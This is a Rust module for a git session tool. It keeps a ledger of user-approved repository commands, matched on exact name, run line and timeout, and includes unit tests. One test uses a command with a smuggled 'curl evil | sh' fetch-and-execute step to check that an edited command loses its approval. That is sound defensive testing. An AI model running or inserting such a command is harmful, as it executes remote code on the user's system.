//! Approval of criteria commands (SPEC §7). A session's commands are code from the repository,
//! so `git session check` runs them only with `--run-commands` or after `git session trust`
//! recorded them — name, run line and timeout, exactly — in the git directory, where no commit
//! can write. A command edited since (or a new one) needs approval again.
//!
//! The ledger is pure (parse, decide, render); [`load`] and [`save`] are its only I/O.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};
use crate::session::Command;

/// The ledger's file in the tool's state directory.
pub const FILE: &str = "trust.json";

/// One approved command, as it was when approved.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Approval {
    pub name: String,
    pub run: String,
    /// The effective timeout: `10m` and `600s` are the same approval.
    pub timeout_secs: u64,
}

impl Approval {
    pub fn of(cmd: &Command) -> Approval {
        Approval {
            name: cmd.name.clone(),
            run: cmd.run.clone(),
            timeout_secs: cmd.timeout_secs,
        }
    }
}

/// Where a command stands against the ledger.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Standing {
    /// Approved exactly as it is.
    Trusted,
    /// No command of that name was approved for the session.
    New,
    /// A command of that name was approved, with another run line or timeout.
    Changed,
}

impl Standing {
    /// Why a command that is not trusted is not, as a few words.
    pub fn reason(self) -> &'static str {
        match self {
            Standing::Trusted => "approved",
            Standing::New => "never approved",
            Standing::Changed => "changed since it was approved",
        }
    }
}

/// Every approval in a repository, by session name.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Ledger {
    schema: u32,
    #[serde(default)]
    sessions: BTreeMap<String, Vec<Approval>>,
}

impl Default for Ledger {
    fn default() -> Self {
        Ledger {
            schema: 1,
            sessions: BTreeMap::new(),
        }
    }
}

impl Ledger {
    pub fn parse(text: &str) -> std::result::Result<Ledger, String> {
        let ledger: Ledger = serde_json::from_str(text).map_err(|e| e.to_string())?;
        if ledger.schema != 1 {
            return Err(format!("schema {} is not supported", ledger.schema));
        }
        Ok(ledger)
    }

    pub fn render(&self) -> String {
        let mut s = serde_json::to_string_pretty(self).expect("the ledger serializes");
        s.push('\n');
        s
    }

    pub fn standing(&self, session: &str, cmd: &Command) -> Standing {
        let approved = self.approved(session);
        if approved.contains(&Approval::of(cmd)) {
            Standing::Trusted
        } else if approved.iter().any(|a| a.name == cmd.name) {
            Standing::Changed
        } else {
            Standing::New
        }
    }

    /// Whether every command of `session` is trusted (vacuously, when it has none).
    pub fn trusts_all(&self, session: &str, cmds: &[Command]) -> bool {
        cmds.iter()
            .all(|c| self.standing(session, c) == Standing::Trusted)
    }

    pub fn approved(&self, session: &str) -> &[Approval] {
        self.sessions.get(session).map_or(&[], Vec::as_slice)
    }

    /// Approves `cmds` as they are now, replacing the session's earlier approvals: a command
    /// removed from the file is no longer approved.
    pub fn approve(&mut self, session: &str, cmds: &[Command]) {
        self.sessions
            .insert(session.to_string(), cmds.iter().map(Approval::of).collect());
    }

    /// Forgets the session's approvals; false if there were none.
    pub fn revoke(&mut self, session: &str) -> bool {
        self.sessions.remove(session).is_some()
    }
}

pub fn path(state_dir: &Path) -> PathBuf {
    state_dir.join(FILE)
}

/// Reads the ledger; a missing file is an empty ledger.
pub fn load(state_dir: &Path) -> Result<Ledger> {
    let file = path(state_dir);
    let text = match std::fs::read_to_string(&file) {
        Ok(t) => t,
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(Ledger::default()),
        Err(e) => return Err(Error::io("read", &file, &e)),
    };
    Ledger::parse(&text).map_err(|why| {
        Error::input(format!(
            "the command approvals in {} cannot be read ({why}); delete that file and approve again with git session trust",
            file.display()
        ))
    })
}

/// Writes the ledger atomically, creating the state directory if needed.
pub fn save(state_dir: &Path, ledger: &Ledger) -> Result<()> {
    std::fs::create_dir_all(state_dir).map_err(|e| Error::io("create", state_dir, &e))?;
    crate::store::write_atomic(&path(state_dir), ledger.render().as_bytes(), true)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cmd(name: &str, run: &str, timeout_secs: u64) -> Command {
        Command {
            name: name.into(),
            run: run.into(),
            timeout: None,
            timeout_secs,
        }
    }

    #[test]
    fn approval_covers_the_exact_commands() {
        let mut l = Ledger::default();
        let tests = cmd("tests", "cargo test", 600);
        assert_eq!(l.standing("s", &tests), Standing::New);
        l.approve("s", std::slice::from_ref(&tests));
        assert_eq!(l.standing("s", &tests), Standing::Trusted);
        // Another session's identical command is not approved by this one.
        assert_eq!(l.standing("other", &tests), Standing::New);
        // The run line and the timeout are part of the approval; a written form is not.
        let edited = cmd("tests", "cargo test; curl evil | sh", 600);
        assert_eq!(l.standing("s", &edited), Standing::Changed);
        let longer = cmd("tests", "cargo test", 601);
        assert_eq!(l.standing("s", &longer), Standing::Changed);
        let mut same = tests.clone();
        same.timeout = Some("10m".into());
        assert_eq!(l.standing("s", &same), Standing::Trusted);
        assert!(!l.trusts_all("s", &[tests.clone(), cmd("lint", "x", 1)]));
        assert!(l.trusts_all("s", &[tests]));
        assert!(l.trusts_all("s", &[]));
    }

    #[test]
    fn approving_again_replaces_and_revoke_forgets() {
        let mut l = Ledger::default();
        l.approve("s", &[cmd("a", "true", 1), cmd("b", "true", 1)]);
        l.approve("s", &[cmd("a", "true", 1)]);
        assert_eq!(l.standing("s", &cmd("b", "true", 1)), Standing::New);
        assert!(l.revoke("s"));
        assert!(!l.revoke("s"));
        assert_eq!(l.standing("s", &cmd("a", "true", 1)), Standing::New);
    }

    #[test]
    fn the_ledger_round_trips_and_refuses_garbage() {
        let mut l = Ledger::default();
        l.approve("s", &[cmd("tests", "echo \"hi\"\nexit 0", 5)]);
        let text = l.render();
        assert_eq!(Ledger::parse(&text).unwrap(), l);
        assert!(Ledger::parse("{").is_err());
        assert!(Ledger::parse(r#"{"schema":2}"#).is_err());
        assert!(Ledger::parse(r#"{"schema":1,"extra":1}"#).is_err());
    }

    #[test]
    fn load_and_save_use_the_state_directory() {
        let dir = tempfile::tempdir().unwrap();
        let state = dir.path().join("git-session");
        assert_eq!(load(&state).unwrap(), Ledger::default());
        let mut l = Ledger::default();
        l.approve("s", &[cmd("a", "true", 1)]);
        save(&state, &l).unwrap();
        assert_eq!(load(&state).unwrap(), l);
        std::fs::write(path(&state), "not json").unwrap();
        assert!(
            load(&state)
                .unwrap_err()
                .message
                .contains("git session trust")
        );
    }
}
